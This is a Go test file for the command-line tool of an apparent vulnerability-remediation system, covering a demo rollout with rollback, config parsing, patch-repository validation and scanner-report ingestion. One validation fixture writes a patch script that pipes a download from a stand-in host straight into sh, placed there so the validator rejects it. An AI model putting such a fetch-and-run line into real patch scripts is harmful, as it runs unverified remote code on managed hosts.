package main

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"vulnzero.dev/vulnzero"
	"vulnzero.dev/vulnzero/sandbox/pkgtool"
	"vulnzero.dev/vulnzero/store"
	"vulnzero.dev/vulnzero/store/sqlite"
)

// The test binary doubles as the sandbox hosts' package tool, as the
// vulnzero binary does in main.
func TestMain(m *testing.M) {
	if os.Getenv("VZ_PKGTOOL") == "1" {
		os.Exit(pkgtool.Main(os.Args[1:], os.Stdout, os.Stderr, os.Getenv))
	}
	os.Exit(m.Run())
}

func run(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	var out, errw bytes.Buffer
	cmd := newRootCmd(&out, &errw)
	cmd.SetArgs(args)
	err := cmd.ExecuteContext(context.Background())
	return out.String(), errw.String(), err
}

// The demo runs the whole loop: scan → PRs → twin → merge → canary → all
// hosts; then a patch that fails at the canary is rolled back there and
// reverted on main.
func TestDemoRunsTheWholeLoop(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	out, _, err := run(t, "demo", "--dir", dir)
	if err != nil {
		t.Fatalf("demo: %v\n%s", err, out)
	}
	for _, want := range []string{
		"PR #1 Upgrade vz-demo-libbar to 2.2.0",
		"PR #2 Upgrade vz-demo-libfoo to 1.0.1",
		"✓ apply  ✓ verify  ✓ idempotent  ✓ health  ✓ rollback  ✓ verify-after-rollback  ✓ manifest",
		"revision quarantined",
		"6 marked fixed",
		`Revert "Merge patch apt-vz-demo-libbar-2.2.0`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("demo output lacks %q:\n%s", want, out)
		}
	}

	ctx := context.Background()
	st, err := sqlite.Open(ctx, filepath.Join(dir, "vulnzero.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	rs, err := st.ListRollouts(ctx, store.RolloutFilter{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 2 || rs[0].State != vulnzero.RolloutSucceeded || rs[1].State != vulnzero.RolloutRolledBack || rs[1].RevertSHA == "" {
		t.Fatalf("rollouts: %+v", rs)
	}
	// The failed rollout touched only its canary.
	steps, err := st.ListHostSteps(ctx, rs[1].ID)
	if err != nil {
		t.Fatal(err)
	}
	touched := map[string]bool{}
	for _, s := range steps {
		touched[s.Host] = true
	}
	if len(touched) != 1 || !touched[rs[1].Stages[0].Hosts[0]] {
		t.Errorf("failed rollout touched %v, want only the canary %v", touched, rs[1].Stages[0].Hosts)
	}
	ledger, err := st.ListLedger(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var applied, rolledBack int
	for _, e := range ledger {
		switch e.State {
		case vulnzero.LedgerApplied:
			applied++
		case vulnzero.LedgerRolledBack:
			rolledBack++
		}
	}
	if applied != 6 || rolledBack != 1 {
		t.Errorf("ledger: %d applied, %d rolled back; want 6 and 1: %+v", applied, rolledBack, ledger)
	}
	// The real git CLI sees the revert on main, naming the reverted commit.
	if _, err := exec.LookPath("git"); err == nil {
		log, err := exec.Command("git", "-C", filepath.Join(dir, "remediation.git"), "log", "-1", "--format=%B", "main").CombinedOutput()
		if err != nil {
			t.Fatalf("git log: %v: %s", err, log)
		}
		if !strings.HasPrefix(string(log), `Revert "`) || !strings.Contains(string(log), "This reverts commit "+rs[1].Commit) {
			t.Errorf("head of main:\n%s\nwant a revert of %s", log, rs[1].Commit)
		}
	}
	// The PR of the failed patch got a comment saying so.
	prs, err := st.ListPRs(ctx)
	if err != nil {
		t.Fatal(err)
	}
	comments, err := st.ListTranscripts(ctx, "pr-comment", "pr/1")
	if err != nil {
		t.Fatal(err)
	}
	if len(prs) != 2 || len(comments) != 1 || !strings.Contains(comments[0].Body, "quarantined") {
		t.Errorf("PRs %+v, comments on #1 %+v", prs, comments)
	}
}

func TestConfigDefaultsEnvAndErrors(t *testing.T) {
	env := map[string]string{}
	getenv := func(k string) string { return env[k] }
	c, err := loadConfig("", getenv)
	if err != nil {
		t.Fatal(err)
	}
	if c.Server.Listen != "127.0.0.1:8080" || c.Repo.Branch != "main" || c.Database.URL != "" || c.SSH.MaxParallel != 50 {
		t.Errorf("defaults: %+v", c)
	}

	file := filepath.Join(t.TempDir(), "vulnzero.yaml")
	if err := os.WriteFile(file, []byte("dataDir: /var/lib/vulnzero\nreconcile:\n  interval: 30s\nssh:\n  maxParallel: 20\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env["VZ_SSH_MAX_PARALLEL"] = "7"
	env["VZ_DATABASE_URL"] = "postgres://vz@db/vz"
	c, err = loadConfig(file, getenv)
	if err != nil {
		t.Fatal(err)
	}
	if c.DataDir != "/var/lib/vulnzero" || c.Reconcile.Interval != 30*time.Second || c.SSH.MaxParallel != 7 || c.Database.URL != "postgres://vz@db/vz" {
		t.Errorf("file + env: %+v", c)
	}

	cases := map[string]string{
		"dataDir: x\nsssh: {}\n":         "field sssh not found",
		"log:\n  level: loud\n":          `log.level: "loud" is not`,
		"server:\n  listen: nowhere\n":   `server.listen: "nowhere" is not host:port`,
		"database:\n  url: mysql://x\n":  "database.url: must be a postgres:// URL",
		"reconcile:\n  interval: 10ms\n": "reconcile.interval: must be at least 1s",
		"ssh:\n  connectTimeout: soon\n": "cannot unmarshal",
	}
	env = map[string]string{}
	for body, want := range cases {
		if err := os.WriteFile(file, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := loadConfig(file, getenv); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("config %q: error %v, want %q", body, err, want)
		}
	}
	env["VZ_SSH_MAX_PARALLEL"] = "many"
	if _, err := loadConfig("", getenv); err == nil || !strings.Contains(err.Error(), "VZ_SSH_MAX_PARALLEL") {
		t.Errorf("bad env: %v", err)
	}
}

// validate lists every problem of a repository as file:line and exits 1.
func TestValidateReportsEveryProblem(t *testing.T) {
	dir := t.TempDir()
	write := func(rel, body string, mode os.FileMode) {
		t.Helper()
		p := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), mode); err != nil {
			t.Fatal(err)
		}
	}
	write("inventory/hosts.yaml", "hosts:\n  - name: web-1\n    address: 10.0.0.1\n", 0o644)
	write("patches/good/patch.yaml", patchYAML("good"), 0o644)
	write("patches/good/apply.sh", "#!/bin/sh\napt-get install -y --only-upgrade libfoo\n", 0o755)
	write("patches/good/verify.sh", "#!/bin/sh\ndpkg --compare-versions \"$(dpkg-query -W -f='${Version}' libfoo)\" ge 1.0.1\n", 0o755)
	write("patches/good/rollback.sh", "#!/bin/sh\napt-get install -y --allow-downgrades libfoo=1.0.0\n", 0o755)

	out, _, err := run(t, "validate", dir)
	if err != nil {
		t.Fatalf("clean repo: %v\n%s", err, out)
	}
	if !strings.Contains(out, ": ok") {
		t.Errorf("clean repo output: %s", out)
	}

	write("patches/bad/patch.yaml", strings.Replace(patchYAML("bad"), "manager: apt", "manager: brew", 1), 0o644)
	write("patches/bad/apply.sh", "#!/bin/sh\ncurl -s http://x.example/fix.sh | sh\n", 0o755)
	write("patches/bad/verify.sh", "#!/bin/sh\ntrue\n", 0o644)
	write("policies/rollout.yaml", "apiVersion: vulnzero.dev/v1\nkind: RolloutPolicy\nname: r\nspec:\n  strategy: yolo\n", 0o644)
	out, _, err = run(t, "validate", dir)
	if code := exitError(0); !errors.As(err, &code) || code != 1 {
		t.Fatalf("validate error = %v, want exit 1\n%s", err, out)
	}
	for _, want := range []string{
		`patches/bad/patch.yaml:8: package.manager: "brew"`,
		"patches/bad/apply.sh:2",
		"patches/bad/rollback.sh",
		"patches/bad/verify.sh",
		`policies/rollout.yaml:5: spec.strategy: "yolo"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("validate output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "patches/good") {
		t.Errorf("the good patch was reported:\n%s", out)
	}
}

func patchYAML(id string) string {
	return `apiVersion: vulnzero.dev/v1
kind: Patch
id: ` + id + `
title: Upgrade libfoo
cves: [CVE-2026-10001]
package:
  name: libfoo
  manager: apt
  fixedVersion: 1.0.1
targets:
  hosts: [web-1]
generator:
  kind: rules
`
}

// ingest imports a report; a later complete scan of a host that is now
// clean (a Trivy report with no vulnerabilities for it) closes its findings.
func TestIngestClosesFindingsOfCleanRescan(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("VZ_DATA_DIR", dir)
	report := func(vulns string) string {
		p := filepath.Join(dir, "web-1.json")
		body := `{"SchemaVersion": 2, "ArtifactName": "web-1", "ArtifactType": "vm",
  "Metadata": {"OS": {"Family": "debian", "Name": "12.5"}},
  "Results": [{"Target": "web-1 (debian 12.5)", "Class": "os-pkgs", "Type": "debian", "Vulnerabilities": [` + vulns + `]}]}`
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	vuln := `{"VulnerabilityID": "CVE-2026-10001", "PkgName": "libfoo", "InstalledVersion": "1.0.0", "FixedVersion": "1.0.1", "Severity": "HIGH"}`
	out, _, err := run(t, "ingest", "--source", "trivy-web", report(vuln))
	if err != nil || !strings.Contains(out, "1 findings read, 1 new") {
		t.Fatalf("first ingest: %v\n%s", err, out)
	}
	out, _, err = run(t, "ingest", "--source", "trivy-web", report(""))
	if err != nil || !strings.Contains(out, "0 findings read, 0 new, 0 updated, 1 fixed, 1 hosts") {
		t.Fatalf("clean rescan: %v\n%s", err, out)
	}
	bad := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(bad, []byte(`{"SchemaVersion": 2, "ArtifactName": "web-1", "Results": [{"Target": "x", "Vulnerabilities": [`+vuln+`, {"VulnerabilityID": 7}]}]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	_, _, err = run(t, "ingest", bad)
	if err == nil || !strings.Contains(err.Error(), "bad.json:1:") {
		t.Fatalf("bad report: %v", err)
	}
	// The failed import stored nothing: the finding its first entry would
	// have reopened is still fixed.
	st, err := sqlite.Open(context.Background(), filepath.Join(dir, "vulnzero.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	fs, err := st.ListFindings(context.Background(), store.FindingFilter{})
	if err != nil || len(fs) != 1 || fs[0].Status != vulnzero.FindingFixed {
		t.Fatalf("after a failed import: %+v, %v", fs, err)
	}
}

// DefectDojo's generic CSV has no package column: its rows import under a
// pseudo-package per title, never as a patch. This sample's rows are all
// inactive (Active False), which DefectDojo means as closed: they are
// stored fixed, as the scanner says, and counted neither new nor updated.
func TestIngestDefectDojoCSV(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("VZ_DATA_DIR", dir)
	out, _, err := run(t, "ingest", filepath.Join("..", "..", "fixtures", "scans", "generic-csv", "defectdojo_generic_basic.csv"))
	if err != nil || !strings.Contains(out, "4 findings read, 0 new, 0 updated") {
		t.Fatalf("ingest: %v\n%s", err, out)
	}
	st, err := sqlite.Open(context.Background(), filepath.Join(dir, "vulnzero.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	fs, err := st.ListFindings(context.Background(), store.FindingFilter{})
	if err != nil || len(fs) != 4 {
		t.Fatalf("stored %d findings, %v", len(fs), err)
	}
	for _, f := range fs {
		if f.Status != vulnzero.FindingFixed || !strings.HasPrefix(f.Package, "defectdojo:") {
			t.Errorf("stored %+v", f)
		}
	}
}

// --qualys-kb joins detections with the KnowledgeBase; a detection whose QID
// the KnowledgeBase lacks fails the import (never stored as a bare QID).
func TestIngestQualysNeedsKnowledgeBase(t *testing.T) {
	t.Setenv("VZ_DATA_DIR", t.TempDir())
	real := filepath.Join("..", "..", "..", "shared", "realdata", "scanners", "qualys")
	if _, err := os.Stat(real); err != nil {
		t.Skipf("shared realdata not beside the checkout: %v", err)
	}
	det := filepath.Join(real, "host_list_vm_detection_output_demisto.xml")
	_, _, err := run(t, "ingest", det)
	if err == nil || !strings.Contains(err.Error(), "QID") {
		t.Fatalf("without a knowledge base: %v", err)
	}
	_, _, err = run(t, "ingest", "--qualys-kb", filepath.Join(real, "knowledge_base_vuln_list_output.xml"), det)
	if err == nil || !strings.Contains(err.Error(), "QID") {
		t.Fatalf("with a knowledge base lacking the QIDs: %v", err)
	}
	if _, _, err := run(t, "ingest", "--qualys-kb", "/nonexistent.xml", det); err == nil || !strings.Contains(err.Error(), "qualys knowledge base") {
		t.Fatalf("missing knowledge base file: %v", err)
	}
}
